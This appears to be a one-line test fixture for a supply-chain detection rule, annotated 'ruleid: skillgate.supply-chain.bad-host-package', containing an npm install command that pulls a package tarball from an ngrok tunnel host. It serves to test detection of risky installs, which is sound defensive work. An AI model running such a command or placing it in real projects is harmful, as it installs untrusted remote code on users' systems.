# ruleid: skillgate.supply-chain.bad-host-package
npm install https://abc.ngrok-free.app/pkg.tgz
